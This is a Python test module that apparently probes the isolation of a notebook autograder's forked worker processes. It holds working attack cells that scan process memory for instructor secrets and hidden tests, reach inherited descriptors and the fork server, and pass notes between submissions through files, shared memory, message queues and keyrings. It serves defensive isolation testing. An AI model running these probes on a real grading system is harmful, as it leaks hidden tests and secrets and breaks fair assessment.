"""Attacks on what a box comes from: a warm process, from which workers and servers are forked."""

from .attack import everything

INHERIT = "inherited"
NO_SERVER = "stock nbgrader has no such server"


def inherited(name: str, tries: str, code: str, **more: object):
    """An attack that is a first cell, on what only our grader has."""
    return everything(name, INHERIT, tries, code, not_stock=NO_SERVER, **more)


NOTE = """
import ctypes, os, pathlib
mine, theirs = (b"{mine}", b"{theirs}")
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
def in_files():
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run/lock", "@CACHE@", os.getcwd(),
                   os.path.expanduser("~")):
        for note in pathlib.Path(folder).glob("@LEFT@-note*"):
            yield folder, note.read_bytes()
        try:
            pathlib.Path(folder, "@LEFT@-note-" + mine.decode()).write_bytes(mine)
        except OSError:
            pass
def in_memory():
    for key in range(7_000, 7_004):
        number = libc.shmget(key, 4096, 0o1666)
        place = libc.shmat(number, None, 0) if number >= 0 else None
        if place not in (None, 2**64 - 1):
            yield "shared memory", ctypes.string_at(place, 8)
            ctypes.memmove(place, mine, len(mine))
def in_messages():
    queue = libc.msgget(7_000, 0o1666)
    if queue >= 0:
        room = ctypes.create_string_buffer(64)
        libc.msgrcv(queue, room, 56, 0, 0o4000)
        yield "messages", room.raw[8:16]
        libc.msgsnd(queue, ctypes.create_string_buffer(b"\\1" + bytes(7) + mine), 16, 0o4000)
def in_keys():
    add, search, read = 248, 10, 11
    for ring in (-4, -5):  # of the user, and of the user's session
        room = ctypes.create_string_buffer(16)
        found = libc.syscall(250, search, ring, b"user", b"note-" + theirs, 0)
        if found > 0:
            libc.syscall(250, read, found, room, 16)
            yield "keys", room.raw[:8]
        libc.syscall(add, b"user", b"note-" + mine, mine, len(mine), ring)
for look in (in_files, in_memory, in_messages, in_keys):
    try:
        for where, what in look():
            if theirs in what:
                print("REACHED a note in", where)
    except OSError:
        pass
"""
INHERITED = (
    inherited(
        "locks-of-the-grader",
        "locks that all graders share, in memory that a fork takes along",
        """
import gc, sys
try:
    for line in open("/proc/self/maps"):
        span, rights, _, _, _, *name = line.split()
        if rights[1] == "w" and rights[3] == "s":
            print("REACHED memory that is shared:", *name)
except OSError:
    pass
gc.unfreeze()
held, frame = list(gc.get_objects()), sys._getframe()
while frame:
    held += frame.f_locals.values()
    frame = frame.f_back
for lock in held:
    if type(lock).__module__ == "multiprocessing.synchronize" and hasattr(lock, "acquire"):
        print("REACHED a lock", lock.acquire(False) and lock.release())
""",
    ),
    inherited(
        "memory-of-the-server",
        "secrets, hidden tests and later cells, in all memory that was forked",
        """
import ctypes, re
halves = {"a secret": (b"OF_THE_INSTRUCTOR=", b"SECRET_OF"),
          "a hidden test": (b'"values", "many', b' numbers"'),
          "a later cell": (b"Nothing happens to its ", b"direction"),
          "a neighbour": (b"a-neigh", b"bour")}
def look(what, text, first, second):
    at = text.find(first)
    while at >= 0:
        if text[at + len(first) : at + len(first) + len(second)] == second:
            print("REACHED", what)
            return
        at = text.find(first, at + 1)
for line in open("/proc/self/maps"):
    span, rights, _, _, inode, *name = line.split()
    low, high = (int(part, 16) for part in span.split("-"))
    if rights[:2] == "rw" and name[:1] not in (["[vvar]"], ["[vsyscall]"]):
        for start in range(low, high, 1 << 24):
            text = ctypes.string_at(start, min(high - start, 1 << 24))
            for what, (first, second) in halves.items():
                look(what, text, first, second)
            del text
""",
    ),
    inherited(
        "descriptors-inherited",
        "open files and sockets of the server and the worker",
        """
import os, socket, stat
sockets = 0
for number in range(1 << 12):
    try:
        kind = os.fstat(number).st_mode
    except OSError:
        continue
    sockets += stat.S_ISSOCK(kind)
    if sockets > 1 or stat.S_ISFIFO(kind) or stat.S_ISREG(kind) or stat.S_ISDIR(kind):
        print("REACHED", number, oct(kind))
for number in range(3, 64):
    try:
        link = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if not link.startswith("socket:") and link != os.devnull:
        print("REACHED", link)
""",
    ),
    inherited(
        "asks-the-fork-server",
        "the process from which workers are forked, for one that is in no box",
        """
import array, glob, os, re, socket, sys
from multiprocessing import forkserver, process, resource_tracker
places = set(glob.glob("@TMP@/pymp-*/*")) | {forkserver._forkserver._forkserver_address}
places |= set(sys.argv) | set(getattr(sys, "orig_argv", ()))
try:
    places |= set(re.findall(r"(\\S*listener-\\S+|@\\S+)$", open("/proc/net/unix").read(), re.M))
except OSError:
    pass
for place in places - {None, "", "@ABSTRACT@"}:
    try:
        caller = socket.socket(socket.AF_UNIX)
        caller.settimeout(0.2)
        caller.connect(place.replace("@", "\\0", 1) if place[0] == "@" else place)
        print("REACHED", place)
    except (OSError, ValueError):
        pass
for number in (resource_tracker._resource_tracker._fd, forkserver._forkserver._forkserver_alive_fd):
    try:
        os.write(number, b"PROBE:0:noop\\n")
        print("REACHED", number)
    except (OSError, TypeError):
        pass
""",
        needs="files",
    ),
    *(
        inherited(
            f"note-{mine}",
            "notes for the next submission, in files, memory, messages and keys",
            NOTE.format(mine=mine, theirs=theirs),
            needs="files",
        )
        for mine, theirs in (("one", "two"), ("two", "one"))
    ),
)
